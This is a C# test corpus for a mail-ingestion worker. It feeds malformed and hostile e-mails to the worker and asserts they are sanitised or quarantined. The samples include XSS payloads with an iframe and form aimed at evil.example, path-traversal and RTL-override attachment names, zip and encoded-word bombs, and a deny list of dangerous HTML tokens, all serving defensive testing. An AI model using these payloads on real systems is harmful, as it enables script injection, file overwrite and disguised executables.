using System.Text;
using static ContactCenter.Workers.Tests.Corpus.HostileMail;

namespace ContactCenter.Workers.Tests.Corpus;

/// <summary>Hostile e-mails: broken encodings and charsets, dangerous names, bombs and hostile HTML.</summary>
internal static partial class MailCorpus
{
    public static IReadOnlyList<CorpusCase> All { get; } = [.. Structure(), .. Content(), .. Names()];

    private static IEnumerable<CorpusCase> Content()
    {
        yield return Case("bad-base64", () => Mixed("Base64 rotto",
            ["Content-Type: application/pdf; name=\"rotto.pdf\"", "Content-Transfer-Encoding: base64", "", "JVBERi0x!!!***\u00ff\u00fe===AAAA====@@@@", "%%%%"]),
            CorpusExpectation.Ticket(t => t.Attachments.Should().ContainSingle(a => a.FileName == "rotto.pdf")));

        yield return Case("bad-quoted-printable", () => Message("QP rotto",
            "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: quoted-printable", "",
            "Albero caduto =ZZ in via =C3=A8 Roma =", "=\r=0=GG fine ="),
            CorpusExpectation.Ticket(t => t.TextBody.Should().Contain("Albero caduto").And.Contain("è")));

        yield return Case("raw-8bit-headers", () => Message(Utf8Bytes("Città allagata: è urgente"),
            "Content-Type: text/plain; charset=utf-8", "", Utf8Bytes("Perché nessuno risponde?")),
            CorpusExpectation.Ticket(t =>
            {
                t.Subject.Should().Be("Città allagata: è urgente");
                t.TextBody.Should().Contain("Perché");
            }));

        yield return Case("latin1-8bit-headers", () => Message("Citt\u00e0 allagata",
            "Content-Type: text/plain; charset=iso-8859-1", "", "Perch\u00e9 nessuno risponde?"),
            CorpusExpectation.Ticket(t => t.TextBody.Should().Contain("Perché")));

        yield return Case("unknown-charset", () => Message("=?x-klingon?Q?Oggetto_strano?=",
            "Content-Type: text/plain; charset=x-klingon-9", "", Body),
            CorpusExpectation.Ticket(t => t.TextBody.Should().Contain("albero caduto")));

        yield return Case("utf7-and-utf32-garbage", () => Mixed("Charset esotici",
            ["Content-Type: text/plain; charset=utf-7; name=\"a.txt\"", "Content-Disposition: attachment", "", "+AGEAYgBj-+ZZZ-+"],
            ["Content-Type: text/plain; charset=utf-32", "", "\u00ff\u00fe\u0000\u0000\u0041"]),
            CorpusExpectation.Ticket(t => t.TextBody.Should().Contain("albero caduto")));

        yield return Case("encoded-word-bomb", () => Plain(string.Join(" ", Enumerable.Range(0, 10_000).Select(_ => "=?utf-8?B?w6g=?= =?bogus?Q?x?="))),
            CorpusExpectation.Quarantine("Mail:MaxHeaderBytes"));

        yield return Case("utf7-subject-and-body", () => Message("=?utf-7?Q?Frana_+AOg-_vicina?=",
            "Content-Type: text/plain; charset=utf-7", "", "La frana +AOg- vicina."),
            CorpusExpectation.Ticket(t =>
            {
                t.Subject.Should().Be("Frana è vicina");
                t.TextBody.Should().Be("La frana è vicina.");
            }));

        yield return Case("css-full-screen-overlay", () => Message("Sovrapposizione",
            "Content-Type: text/html; charset=utf-8", "",
            "<div style=\"position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 99999; background-image: url(https://t.example.com/p)\">finto modulo</div>"),
            CorpusExpectation.Ticket(t => t.HtmlBody.Should().Contain("finto modulo").And.NotContainAny("position", "z-index", "url(", "height")));

        yield return Case("uuencode-garbage", () => Message("Uuencode rotto",
            "Content-Type: application/octet-stream; name=\"x.bin\"", "Content-Transfer-Encoding: x-uuencode", "", "begin 644 x.bin", "M!!!!\u00ff\u00ff", "end"),
            CorpusExpectation.Ticket(t => t.Attachments.Should().ContainSingle()));

        yield return Case("zip-bomb-attachment", () => Mixed("Archivio", Base64Part("application/zip", "filename=\"documenti.zip\"", HostileArchives.ZipBomb())),
            CorpusExpectation.Ticket(t =>
            {
                var zip = t.Attachments.Should().ContainSingle(a => a.FileName == "documenti.zip").Subject;
                t.Read(zip).Should().Equal(HostileArchives.ZipBomb(), "the zip is archived as it came, never unpacked");
            }));

        yield return Case("tnef-bogus-lengths", () => Mixed("Outlook",
            ["Content-Type: application/ms-tnef; name=\"winmail.dat\"", "Content-Transfer-Encoding: base64", "", Base64Lines(HostileArchives.TnefWithBogusLengths())]),
            CorpusExpectation.Ticket(t => t.Attachments.Should().Contain(a => a.FileName == "winmail.dat", "an unreadable winmail.dat is kept as it is")));

        yield return Case("html-hostile", () => Message("HTML ostile",
            "Content-Type: text/html; charset=utf-8", "",
            "<html><head><script>steal()</script><meta http-equiv=refresh content=\"0;url=javascript:x()\"></head><body onload=\"x()\">",
            "<p>Testo visibile</p><iframe src=\"https://evil.example/\"></iframe><img src=x onerror=\"alert(1)\">",
            "<a href=\"javascript:alert(1)\">clicca</a><a href=\"jav&#x09;ascript:alert(2)\">due</a><svg onload=alert(3)></svg>",
            "<form action=\"https://evil.example\"><input name=p></form><object data=x></object><embed src=x>",
            "<div style=\"background:url(javascript:alert(4))\">stile</div></body></html>"),
            CorpusExpectation.Ticket(t =>
            {
                t.TextBody.Should().Contain("Testo visibile").And.NotContain("steal()");
                foreach (var bad in new[] { "<script", "javascript:", "onerror", "onload", "<iframe", "<object", "<embed", "<form", "refresh" })
                {
                    (t.HtmlBody ?? "").Should().NotContainEquivalentOf(bad);
                }
            }));

        yield return Case("html-nesting-100000", () => Message("HTML annidato",
            "Content-Type: text/html; charset=utf-8", "", string.Concat(Enumerable.Repeat("<div>", 100_000)) + "fondo" + string.Concat(Enumerable.Repeat("</div>", 100_000))),
            CorpusExpectation.Ticket(t =>
            {
                t.TextBody.Should().Be("fondo", "the words of HTML too deep to parse are kept as text");
                t.HtmlBody.Should().BeNull();
            }));
    }

    private static IEnumerable<CorpusCase> Names()
    {
        var names = new (string Case, string Header, Func<string, bool> SafeName)[]
        {
            ("name-dot-dot-slash", "filename=\"../../../../etc/cron.d/evil\"", n => n == "evil"),
            ("name-backslash-traversal", "filename=\"..\\\\..\\\\Windows\\\\System32\\\\evil.dll\"", n => n == "evil.dll"),
            ("name-nul", "filename*=utf-8''fattura%00.pdf%00.exe", n => !n.Contains('\0') && !n.Contains('/')),
            ("name-rtl-override", "filename*=utf-8''fattura%E2%80%AEfdp.exe", n => !n.Contains('\u202E') && n.EndsWith(".exe", StringComparison.Ordinal)),
            ("name-500-chars", $"filename=\"{new string('n', 496)}.pdf\"", n => n.Length <= 120 && n.EndsWith(".pdf", StringComparison.Ordinal)),
            ("name-reserved-device", "filename=\"CON.txt\"", n => n != "CON.txt"),
            ("name-control-chars", "filename=\"a\tb\r\n c\u0007.txt\"", n => n.All(c => !char.IsControl(c))),
        };
        foreach (var (name, header, safe) in names)
        {
            yield return Case(name, () => Mixed("Allegato " + name, Base64Part("application/octet-stream", header, Encoding.ASCII.GetBytes("contenuto " + name))),
                CorpusExpectation.Ticket(t =>
                {
                    var attachment = t.Attachments.Should().ContainSingle().Subject;
                    safe(attachment.FileName).Should().BeTrue($"'{attachment.FileName}' must be a safe name");
                    Encoding.ASCII.GetString(t.Read(attachment)).Should().Be("contenuto " + name);
                }));
        }
    }
}
